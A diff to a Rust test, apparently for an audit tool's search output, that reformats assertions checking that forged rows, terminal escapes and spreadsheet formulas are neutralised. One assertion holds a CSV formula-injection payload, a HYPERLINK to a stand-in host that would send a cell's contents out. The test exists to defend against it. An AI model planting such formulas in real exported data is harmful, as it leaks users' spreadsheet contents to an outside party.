@@ -56,9 +56,16 @@ fn forged_rows_and_formulas_in_a_purpose_are_neutralised() {
         String::from_utf8(out.stdout).unwrap()
     };
     let table = search("table");
-    assert_eq!(table.lines().count(), 4, "a header and three rows:\n{table}");
+    assert_eq!(
+        table.lines().count(),
+        4,
+        "a header and three rows:\n{table}"
+    );
     assert!(table.contains("school-enrolment\\n2026"), "{table}");
-    assert!(!table.contains('\u{1b}'), "no terminal escape reaches the auditor");
+    assert!(
+        !table.contains('\u{1b}'),
+        "no terminal escape reaches the auditor"
+    );
     let csv = search("csv");
     assert!(
         csv.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\""),
